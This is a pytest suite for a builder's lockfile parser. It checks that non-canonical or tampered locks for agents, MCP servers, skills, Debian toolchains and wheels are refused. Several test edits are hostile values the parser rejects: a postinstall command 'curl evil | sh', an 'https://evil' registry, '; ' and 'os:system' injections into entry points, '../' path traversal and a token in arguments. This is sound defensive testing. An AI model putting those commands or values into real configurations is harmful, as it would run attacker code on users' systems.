"""A lock parses only when it is canonical, bounded, closed and lawful."""

from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
import rfc8785
from hypothesis import given
from hypothesis import strategies as st

from images.attestation import MAX_BUNDLE_TEXT
from images.digests import Digest
from images.errors import BuilderError, ExitCode, UsageError, VerifyFailed
from images.lock import Lock, TreeEntry
from images.lockfile import lock_bytes, lock_digest, parse_lock
from tests.fakes.locks import SIGNATURE, make_added_lock, make_full_lock, make_lock, with_toolchain


def canonical(document: object) -> bytes:
    return (json.dumps(document, sort_keys=True, indent=1, ensure_ascii=False) + "\n").encode()


def document() -> dict[str, Any]:
    value: dict[str, Any] = json.loads(lock_bytes(make_lock()))
    return value


def test_round_trip() -> None:
    raw = lock_bytes(make_lock())
    assert parse_lock(raw) == make_lock()
    assert lock_bytes(parse_lock(raw)) == raw
    assert lock_digest(make_lock()) == Digest.of(raw)


def test_round_trip_with_a_server_and_a_skill() -> None:
    raw = lock_bytes(make_full_lock())
    assert parse_lock(raw) == make_full_lock()
    assert lock_bytes(parse_lock(raw)) == raw
    assert b'"mcp"' not in lock_bytes(make_lock())  # a lock without them is what it was before they existed


def unsigned(document: dict[str, Any], *keys: str, **changes: str) -> None:
    entry = artifact(document, "chalk")
    entry.update(changes)
    for key in keys:
        entry.pop(key)


FULL_EDITS: list[tuple[Callable[[dict[str, Any]], object], str]] = [
    (lambda d: d.update(mcp={}), "platforms are not those"),
    (lambda d: d.update(skills={}), "platforms are not those"),
    (lambda d: d["mcp"].update({"../x": d["mcp"]["files"]}), "a name of lower case"),
    (lambda d: d["mcp"].update(other=d["mcp"].pop("files")), "is not in this lock"),
    (lambda d: d["mcp"]["files"].update(version="latest"), "an exact version"),
    (lambda d: d["mcp"]["files"]["args"].append("a\nb"), "one line"),
    (lambda d: d["mcp"]["files"]["env"].append("A=b"), "the name of a variable"),
    (lambda d: d["mcp"]["files"]["env"].append("A"), "mcp.files env: not sorted"),
    (lambda d: d["mcp"]["files"]["trees"].clear(), "mcp.files.trees: not exactly the declared"),
    (lambda d: artifact(d, "@example/server-files").update(bins={}), "no command that could be the server"),
    (lambda d: d["skills"]["review"].pop("SKILL.md"), "skills.review: has no SKILL.md"),
    (lambda d: d["skills"]["review"].update({"../x": FILE}), "a plain path"),
    (lambda d: d["skills"]["review"].update({"a/./b": FILE}), "a plain path"),
    (lambda d: d["skills"]["review"].update({"skill.md": FILE}), "letter case alone"),
    (lambda d: d["skills"]["review"].update({"SKILL.md/x": FILE}), "a file and a directory"),
    (lambda d: d["skills"]["review"]["SKILL.md"].update(size=5 << 20), "a number from"),
    (lambda d: d["skills"]["review"]["SKILL.md"].update(mode=1), "no key 'mode'"),
    (lambda d: d["skills"]["review"]["SKILL.md"].update(sha256="x"), "64 hexadecimal"),
    (lambda d: artifact(d, "review").update(version="1.0.0"), "no version"),
    (lambda d: artifact(d, "review").update(registry="npm"), "the registry local"),
    (lambda d: artifact(d, "review").update(authenticated="tofu"), "skill cannot be authenticated as tofu"),
    (lambda d: artifact(d, "chalk").update(authenticated="local"), "npm cannot be authenticated as local"),
    (
        lambda d: artifact(d, "chalk").update(authenticated="debian-signed", signer="A" * 40),
        "npm cannot be authenticated as debian-signed",
    ),
    (lambda d: artifact(d, "review").update(signer="x"), "local, so the signer is nobody"),
    (lambda d: artifact(d, "chalk").update(authenticated="tofu"), "tofu, so the signer is nobody"),
    (lambda d: unsigned(d, "signer", authenticated="tofu"), "a signature belongs to npm-signature"),
    (lambda d: unsigned(d, "signature"), "a signature belongs to npm-signature"),
    (lambda d: artifact(d, "review").update(signature=SIGNATURE), "a signature belongs to npm-signature"),
    (lambda d: artifact(d, "chalk").update(signature="x"), "signature: expected a signature"),
    (lambda d: artifact(d, "chalk").pop("signer"), "so the signer is the key id"),
    (lambda d: artifact(d, "chalk").update(signer="SHA256:short"), "so the signer is the key id"),
    (
        lambda d: unsigned(d, "signature", authenticated="npm-provenance"),
        "so the signer is the URI",
    ),
    (lambda d: artifact(d, "chalk").update(signer=""), "whose signature it is"),
    (lambda d: artifact(d, "chalk").update(signer="a b"), "whose signature it is"),
    (lambda d: artifact(d, "chalk").update(signer="a" * 501), "whose signature it is"),
    (lambda d: artifact(d, "chalk").update(signer=None), "whose signature it is"),
    (lambda d: artifact(d, "review").update(bins={"x": "x"}), "not just what builder.toml names"),
    (lambda d: artifact(d, "review").update(parents=["mcp.files"]), "is not what mcp.files asks for"),
]
FILE = {"executable": False, "size": 1, "sha256": "0" * 64}


@pytest.mark.parametrize(("edit", "said"), FULL_EDITS)
def test_a_broken_server_or_skill_is_refused(edit: Callable[[dict[str, Any]], object], said: str) -> None:
    changed = json.loads(lock_bytes(make_full_lock()))
    edit(changed)
    with pytest.raises(UsageError) as refused:
        parse_lock(canonical(changed))
    assert said in refused.value.what


@pytest.mark.parametrize(
    ("error", "code"), [(UsageError, ExitCode.CREDENTIAL), (VerifyFailed, ExitCode.VERIFY)]
)
@pytest.mark.parametrize("server", ["files", "look"])
def test_a_credential_among_arguments_is_refused_and_not_shown(
    server: str, error: type[BuilderError], code: ExitCode
) -> None:
    """In the operator's own lock it is told as one; a lock that came with an image does not verify."""
    changed = json.loads(lock_bytes(make_added_lock()))
    changed["mcp"][server]["args"].append("--token=0123456789abcdef")
    with pytest.raises(BuilderError) as refused:
        parse_lock(canonical(changed), where="x", error=error)
    assert refused.value.code is code
    assert f"mcp.{server}.args" in refused.value.what
    assert "0123456789abcdef" not in f"{refused.value} {refused.value.hint}"


def test_round_trip_with_a_toolchain() -> None:
    raw = lock_bytes(with_toolchain(make_lock()))
    assert parse_lock(raw) == with_toolchain(make_lock())
    assert lock_bytes(parse_lock(raw)) == raw
    assert b'"toolchain"' not in lock_bytes(make_lock())  # as it was before there were any


MAKE, GUILE = "deb:make:amd64@4.3-4.1", "deb:libguile-3.0-1:amd64@3.0.8-2"


def debian(d: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = d["toolchain"]["debian"]
    return found


def tree(d: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = debian(d)["trees"]["linux/amd64"]
    return found


TOOLCHAIN_EDITS: list[tuple[Callable[[dict[str, Any]], object], str]] = [
    (lambda d: d.pop("toolchain"), "platforms are not those that use it"),
    (lambda d: d["toolchain"].update(rpm=[]), "no key 'rpm'"),
    (lambda d: debian(d).update(suite="Book worm"), "the name of a suite"),
    (lambda d: debian(d).update(asked=[]), "asks for nothing"),
    (lambda d: debian(d)["asked"].reverse(), "toolchain.debian.asked: not sorted"),
    (lambda d: debian(d)["asked"].append("zsh"), "neither exactly in the base nor exactly among"),
    (lambda d: debian(d)["asked"].remove("make"), "neither exactly in the base nor exactly among"),
    (lambda d: debian(d)["asked"].append("Zsh"), "the name of a Debian package"),
    (lambda d: debian(d)["trees"].clear(), "platforms are not those"),
    (lambda d: tree(d)["in_base"].append("make"), "neither exactly"),
    (lambda d: tree(d)["in_base"].append("zsh"), "in_base names what nobody asked for"),
    (lambda d: tree(d)["in_base"].append("git"), "in_base: not sorted"),
    (lambda d: tree(d)["steps"].pop(), "is never configured"),
    (lambda d: tree(d)["steps"].reverse(), "before it is unpacked"),
    (lambda d: tree(d)["steps"][0]["unpack"].append(MAKE), "is to unpack twice"),
    (lambda d: tree(d)["steps"][1]["configure"].append(MAKE), "is to configure twice"),
    (lambda d: tree(d)["steps"][0]["unpack"].remove(GUILE), "platforms are not those"),
    (lambda d: tree(d)["steps"][0]["unpack"].append("deb:zsh:amd64@1"), "is used and has no entry"),
    (lambda d: tree(d)["steps"][0]["unpack"].append("npm:chalk@5.6.2"), "the id of a Debian package"),
    (lambda d: tree(d)["steps"][0].update(remove=[]), "an object of at most 1 keys"),
    (lambda d: tree(d)["steps"].append({"remove": []}), "one of unpack, configure"),
    (lambda d: artifact(d, "make:amd64").pop("signer"), "the signer is the fingerprint"),
    (lambda d: artifact(d, "make:amd64").update(signer="me"), "the signer is the fingerprint"),
    (lambda d: artifact(d, "make:amd64").update(authenticated="tofu"), "cannot be authenticated as tofu"),
    (lambda d: artifact(d, "make:amd64").update(registry="npm"), "the registry debian"),
    (lambda d: artifact(d, "make:amd64").update(integrity="sha512:" + "0" * 128), "expected a sha256"),
    (lambda d: artifact(d, "make:amd64").update(bins={"x": "x"}), "commands or scripts of npm"),
    (lambda d: artifact(d, "make:amd64").update(version="4.3 4"), "the version of a Debian package"),
    (lambda d: artifact(d, "make:amd64").update(name="make"), "a Debian package and its architecture"),
    (lambda d: artifact(d, "make:amd64").update(parents=["agents.pi"]), "is not what agents.pi asks for"),
    (
        lambda d: artifact(d, "libguile-3.0-1:amd64").update(parents=["toolchain.debian"]),
        "neither exactly in the base nor exactly among",
    ),
    (lambda d: artifact(d, "libguile-3.0-1:amd64").update(parents=[]), "nothing that builder.toml names"),
]


@pytest.mark.parametrize(("edit", "said"), TOOLCHAIN_EDITS)
def test_a_broken_toolchain_is_refused(edit: Callable[[dict[str, Any]], object], said: str) -> None:
    changed = json.loads(lock_bytes(with_toolchain(make_lock())))
    edit(changed)
    with pytest.raises(UsageError) as refused:
        parse_lock(canonical(changed))
    assert said in refused.value.what


def rename(d: dict[str, Any], old: str, new: str) -> Any:
    return json.loads(json.dumps(d).replace(old, new))


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("make:amd64", "make:arm64", "is for another architecture"),
        ("libguile-3.0-1:amd64", "make:amd64", "is there in two versions"),
    ],
)
def test_a_package_that_does_not_fit_is_refused(old: str, new: str, said: str) -> None:
    changed = rename(json.loads(lock_bytes(with_toolchain(make_lock()))), old, new)
    changed["artifacts"].sort(key=lambda one: f"{one['kind']}:{one['name']}@{one['version']}")
    with pytest.raises(UsageError, match=said):
        parse_lock(canonical(changed))


def test_round_trip_with_wheels_and_an_archive() -> None:
    raw = lock_bytes(make_added_lock())
    assert parse_lock(raw) == make_added_lock()
    assert lock_bytes(parse_lock(raw)) == raw
    for name in (b'"pypi_tools"', b'"archives"', b'"filename"', b'"pypi"'):
        assert name not in lock_bytes(make_full_lock())  # a lock without them is what it was before


def quick_tree(d: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = d["pypi_tools"]["quick"]["wheels"]["linux/amd64"]
    return found


def attested(d: dict[str, Any], **changes: object) -> None:
    artifact(d, "quick")["attestation"].update(changes)


SEEN = {"publisher": "https://forge.example/x", "issuer": "https://token.ci.example"}
WHEEL = "wheel:quick-0.9-cp311-cp311-manylinux_2_17_x86_64.manylinux2014_x86_64.whl"
ADDED_EDITS: list[tuple[Callable[[dict[str, Any]], object], str]] = [
    (lambda d: d.pop("pypi_tools"), "platforms are not those"),
    (lambda d: d.pop("archives"), "platforms are not those"),
    (lambda d: d["archives"]["kit"].update(url="x"), "no key 'url'"),
    (lambda d: d["archives"].update({"../kit": {}}), "a name of lower case"),
    (lambda d: d["mcp"]["look"].update(index="npm"), "mcp.look.index: expected pypi"),
    (lambda d: d["mcp"]["look"].update(version=">=1"), "mcp.look.version: expected an exact version"),
    (lambda d: d["mcp"]["look"].update(version="1.0"), "is not mcp-server-look 1.0"),
    (lambda d: d["mcp"]["look"].update(package="Look"), "the normal name of a Python package"),
    (lambda d: d["mcp"]["look"]["wheels"].clear(), "platforms are not those"),
    (lambda d: d["mcp"]["look"]["wheels"]["linux/amd64"].update(python="3.12"), "another python or glibc"),
    (lambda d: d["mcp"]["look"]["wheels"]["linux/amd64"].update(python="2.7"), "such as 3.11"),
    (lambda d: d["mcp"]["look"]["wheels"]["linux/amd64"].update(glibc="2"), "such as 2.36"),
    (lambda d: quick_tree(d).update(root="npm:chalk@5.6.2"), "the id of a wheel"),
    (lambda d: quick_tree(d).update(root="wheel:Anyio-4.16.0-py3-none-any.whl"), "is not what toolchain"),
    (lambda d: quick_tree(d)["packages"].remove(WHEEL), "platforms are not those"),
    (lambda d: quick_tree(d)["packages"].append("wheel:zip-1.0-py3-none-any.whl"), "has no entry"),
    (lambda d: quick_tree(d)["packages"].reverse(), "not sorted"),
    (lambda d: d["pypi_tools"].update(uv=d["pypi_tools"].pop("quick")), "is not in this lock"),
    (lambda d: attested(d, bundle=""), "attestation.bundle: expected a bundle in base64"),
    (lambda d: attested(d, bundle="e30"), "expected a bundle in base64"),
    (lambda d: attested(d, bundle="e30K\n"), "expected a bundle in base64"),
    (lambda d: attested(d, bundle="A" * (MAX_BUNDLE_TEXT + 4)), "a bundle of at most 131072 bytes"),
    (lambda d: attested(d, publisher="me"), "the URI of a publisher"),
    (lambda d: attested(d, publisher="https://x y"), "the URI of a publisher"),
    (lambda d: attested(d, issuer="ftp://x"), "the address of an issuer"),
    (lambda d: attested(d, more=1), "no key 'more'"),
    (lambda d: attested(d, publisher="https://other.example/"), "the publisher of its attestation"),
    (lambda d: artifact(d, "quick").pop("attestation"), "so it has an attestation with its bundle"),
    (lambda d: artifact(d, "quick")["attestation"].pop("bundle"), "an attestation with its bundle"),
    (lambda d: artifact(d, "anyio")["attestation"].update(bundle="e30K"), "belongs to pypi-attested"),
    (lambda d: artifact(d, "kit").update(attestation=SEEN), "nobody makes attestations of the kind archive"),
    (lambda d: artifact(d, "quick").pop("filename"), "a file name too"),
    (
        lambda d: artifact(d, "quick").update(filename="quick-0.8-py3-none-any.whl"),
        "the file name of a wheel",
    ),
    (lambda d: artifact(d, "quick").update(filename="../quick-0.9-py3-none-any.whl"), "the file name of a"),
    (lambda d: artifact(d, "chalk").update(filename="x.whl"), "only a wheel has one"),
    (lambda d: artifact(d, "quick").update(registry="npm"), "the registry pypi"),
    (lambda d: artifact(d, "quick").update(integrity="sha512:" + "0" * 128), "expected a sha256"),
    (lambda d: artifact(d, "quick").update(authenticated="local"), "cannot be authenticated as local"),
    (lambda d: artifact(d, "quick")["bins"].update(quick="a; b"), "an entry point such as"),
    (lambda d: artifact(d, "quick")["bins"].update(quick="bin/../x"), "an entry point such as"),
    (lambda d: artifact(d, "quick")["bins"].update(quick="os:system\n"), "an entry point such as"),
    (lambda d: artifact(d, "quick").pop("bins"), "has no command"),
    (lambda d: artifact(d, "mcp-server-look").pop("bins"), "no command that could be the server"),
    (lambda d: artifact(d, "quick")["bins"].update(git="bin/quick"), "git is one of every image"),
    (
        lambda d: artifact(d, "kit")["bins"].update(quick="kit-1.2/bin/kit"),
        "toolchain.pypi.quick too",
    ),
    (lambda d: artifact(d, "kit")["bins"].update(kit="../kit"), "a file below"),
    (lambda d: artifact(d, "kit").update(version="1.2.0"), "no version"),
    (lambda d: artifact(d, "kit").update(registry="npm"), "the registry local"),
    (lambda d: artifact(d, "kit").update(authenticated="tofu"), "cannot be authenticated as tofu"),
    (lambda d: artifact(d, "kit").update(parents=["skills.review"]), "is not what skills.review asks for"),
]


@pytest.mark.parametrize(("edit", "said"), ADDED_EDITS)
def test_a_broken_wheel_or_archive_is_refused(edit: Callable[[dict[str, Any]], object], said: str) -> None:
    changed = json.loads(lock_bytes(make_added_lock()))
    edit(changed)
    with pytest.raises(UsageError) as refused:
        parse_lock(canonical(changed))
    assert said in refused.value.what


def test_without_white_space_it_is_rfc_8785() -> None:
    raw = lock_bytes(make_lock())
    assert json.dumps(json.loads(raw), separators=(",", ":"), ensure_ascii=False).encode() == rfc8785.dumps(
        json.loads(raw)
    )


def test_one_change_is_a_small_diff() -> None:
    one = lock_bytes(make_lock()).splitlines()
    lock = make_lock()
    other = replace(lock, user=replace(lock.user, uid=1001))
    changed = [line for line in zip(one, lock_bytes(other).splitlines(), strict=True) if line[0] != line[1]]
    assert len(changed) == 1


@pytest.mark.parametrize(
    "spoil",
    [
        lambda raw: raw.replace(b'"epoch"', b' "epoch"', 1),
        lambda raw: raw + b"\n",
        lambda raw: raw.rstrip(b"\n"),
        lambda raw: json.dumps(json.loads(raw)).encode(),
        lambda raw: raw.replace(b"\n", b"\r\n"),
    ],
)
def test_bytes_that_are_not_canonical_are_refused(spoil: Callable[[bytes], bytes]) -> None:
    with pytest.raises(UsageError, match="canonical form") as refused:
        parse_lock(spoil(lock_bytes(make_lock())))
    assert "builder lock" in refused.value.hint


Edit = Callable[[dict[str, Any]], object]
EDITS: list[tuple[Edit, str]] = [
    (lambda d: d.update(schema=2), "schema 1"),
    (lambda d: d.update(schema=True), "schema 1"),
    (lambda d: d.update(extra=1), "no key 'extra'"),
    (lambda d: d.pop("user"), "the key user"),
    (lambda d: d["user"].update(uid=0), "user.uid: expected a number from 1"),
    (lambda d: d["user"].update(uid=True), "user.uid: expected a whole number"),
    (lambda d: d["user"].update(name="a b"), "user.name"),
    (lambda d: d["recipe"]["compression"].update(algorithm="gzip"), "recipe.compression.algorithm"),
    (lambda d: d["recipe"].update(epoch=-1), "recipe.epoch"),
    (lambda d: d.update(config="sha256:" + "A" * 64), "config: expected sha256"),
    (lambda d: d["platforms"].append("linux/arm64"), "base.images: not exactly"),
    (lambda d: d["platforms"].append("linux/amd64"), "platforms: not sorted"),
    (lambda d: d["base"].update(requested="sha256:" + "0" * 64), "not the requested manifest"),
    (lambda d: d["base"].update(index="sha256:" + "0" * 64), "base.index"),
    (lambda d: d["base"]["images"]["linux/amd64"]["diff_ids"].append("sha256:" + "0" * 64), "pair up"),
    (lambda d: d["base"]["images"]["linux/amd64"]["layers"][0].update(mediaType="x"), "media type"),
    (lambda d: d["agents"].pop("pi"), "platforms are not those that use it"),
    (lambda d: d["agents"].update(cursor=d["agents"]["pi"]), "agents.cursor"),
    (lambda d: d["agents"]["pi"].update(package="evil"), "expected @mariozechner/pi-coding-agent"),
    (lambda d: d["agents"]["pi"].update(version="^0.73.1"), "agents.pi.version: expected an exact version"),
    (lambda d: d["agents"]["pi"].update(version="0.73.2"), "is not npm:@mariozechner/pi-coding-agent@0.73.2"),
    (lambda d: packages(d).pop("node_modules/chalk"), "platforms are not those"),
    (lambda d: packages(d).update({"node_modules/x": "npm:evil@1.0.0"}), "npm:evil@1.0.0 is used"),
    (lambda d: packages(d).update({"node_modules/../x": "npm:ansi@1.0.0"}), "a path of the form"),
    (lambda d: packages(d).update({"/node_modules/x": "npm:ansi@1.0.0"}), "a path of the form"),
    (lambda d: packages(d).update({"node_modules/q/node_modules/x": "npm:ansi@1.0.0"}), "not there"),
    (lambda d: bundled(d).update({"node_modules/x": "1.0.0"}), "bundled in nothing"),
    (lambda d: bundled(d).update({"node_modules/chalk": "1.0.0"}), "both unpacked and bundled"),
    (lambda d: d["artifacts"].append(d["artifacts"][0]), "artifacts: not sorted"),
    (lambda d: d["artifacts"].reverse(), "artifacts: not sorted"),
    (lambda d: artifact(d, "chalk").update(parents=["agents.pi"]), "is not what agents.pi asks for"),
    (lambda d: artifact(d, "chalk").update(parents=["npm:ansi@1.0.0"]), "nothing that builder.toml names"),
    (lambda d: artifact(d, "chalk").update(parents=[]), "nothing that builder.toml names"),
    (lambda d: artifact(d, "chalk").update(parents=["npm:gone@1.0.0"]), "is not in this lock"),
    (lambda d: artifact(d, "chalk").update(parents=["node"]), "Node and only Node"),
    (lambda d: artifact(d, "chalk").update(kind="node"), "artifacts: not sorted"),
    (lambda d: artifact(d, "chalk").update(kind="rpm"), "one of npm, node, skill"),
    (lambda d: artifact(d, "chalk").update(kind="deb"), "a Debian package and its architecture"),
    (lambda d: artifact(d, "chalk").update(name="../chalk"), "npm package name"),
    (lambda d: artifact(d, "chalk").update(version="latest"), "an exact version"),
    (lambda d: artifact(d, "chalk").update(integrity="sha1:" + "0" * 40), "sha512"),
    (lambda d: artifact(d, "chalk").update(size=0), "size"),
    (lambda d: artifact(d, "chalk").update(size=1 << 33), "size"),
    (lambda d: artifact(d, "chalk").update(registry="https://evil"), "a registry alias"),
    (lambda d: artifact(d, "chalk").update(authenticated="yes"), "one of tofu"),
    (lambda d: artifact(d, "chalk").update(bins={"x": "../../bin/x"}), "a file below"),
    (lambda d: artifact(d, "chalk").update(bins={"x": "/bin/x"}), "a file below"),
    (lambda d: artifact(d, "chalk").update(bins={"a/b": "x"}), "a plain command name"),
    (lambda d: artifact(d, "protobufjs")["scripts"].update(run=True), "what install_scripts says"),
    (lambda d: script(d).update(command="curl evil | sh"), "SHA-256 of the command"),
    (lambda d: script(d).update(command="a\nb"), "a command of at most"),
    (lambda d: d.update(install_scripts=["chalk"]), "what install_scripts says"),
    (lambda d: d["install_scripts"].append("chalk"), "chalk has no install script"),
    (lambda d: d["node"].update(version="22.23.4"), "platforms are not those"),
]


def packages(d: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = d["agents"]["pi"]["trees"]["linux/amd64"]["packages"]
    return found


def bundled(d: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = d["agents"]["pi"]["trees"]["linux/amd64"]["bundled"]
    return found


def artifact(d: dict[str, Any], name: str) -> dict[str, Any]:
    return next(item for item in d["artifacts"] if item["name"] == name)


def script(d: dict[str, Any]) -> dict[str, Any]:
    found: dict[str, Any] = artifact(d, "protobufjs")["scripts"]["commands"]["postinstall"]
    return found


@pytest.mark.parametrize(("edit", "message"), EDITS)
def test_each_broken_rule_is_named(edit: Edit, message: str) -> None:
    changed = document()
    edit(changed)
    with pytest.raises(UsageError) as refused:
        parse_lock(canonical(changed), where="here/builder.lock")
    assert message in str(refused.value)
    assert refused.value.where == "here/builder.lock"


def test_the_error_class_is_the_callers() -> None:
    with pytest.raises(VerifyFailed):
        parse_lock(b"{}", error=VerifyFailed)


def paths(value: object, path: tuple[str | int, ...] = ()) -> list[tuple[str | int, ...]]:
    found = [path]
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, item in items:
        found += paths(item, (*path, key))
    return found


PATHS = paths(document())[1:]
JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.text(st.characters(exclude_categories=["Cs"]), max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=5,
)


@given(path=st.sampled_from(PATHS), value=JSON)
def test_any_value_anywhere_is_a_lock_or_a_clean_error(path: tuple[str | int, ...], value: object) -> None:
    changed = copy.deepcopy(document())
    spot: Any = changed
    for key in path[:-1]:
        spot = spot[key]
    spot[path[-1]] = value
    try:
        parsed = parse_lock(canonical(changed))
    except BuilderError:
        pass  # anything else would fail the test
    else:
        assert lock_bytes(parsed) == canonical(changed)


def test_a_tree_may_hold_one_artifact_twice() -> None:
    lock = make_lock()
    pi = lock.agents[1]
    tree = pi.trees[0]
    entries = (*tree.entries, TreeEntry("node_modules/zz", "npm:ansi@1.0.0"))
    doubled: Lock = replace(
        lock, agents=(lock.agents[0], replace(pi, trees=(replace(tree, entries=entries),)))
    )
    assert parse_lock(lock_bytes(doubled)) == doubled
